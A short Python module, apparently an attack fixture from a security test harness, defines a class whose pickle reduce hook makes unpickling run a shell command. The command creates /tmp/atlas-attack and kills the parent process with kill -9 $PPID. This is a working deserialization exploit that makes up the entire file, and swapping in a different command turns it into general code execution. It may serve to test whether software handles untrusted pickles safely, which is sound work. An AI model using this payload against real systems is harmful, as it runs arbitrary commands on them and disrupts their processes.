"""Returns an object whose unpickling would run a command, where anybody is so careless as to do that.

Ends: RETURNED <Gift>
"""

import os


class Gift:
    def __reduce_ex__(self, protocol):
        return os.system, ("touch /tmp/atlas-attack; kill -9 $PPID",)

    __reduce__ = __getstate__ = __reduce_ex__


def attack(facts):
    return Gift()
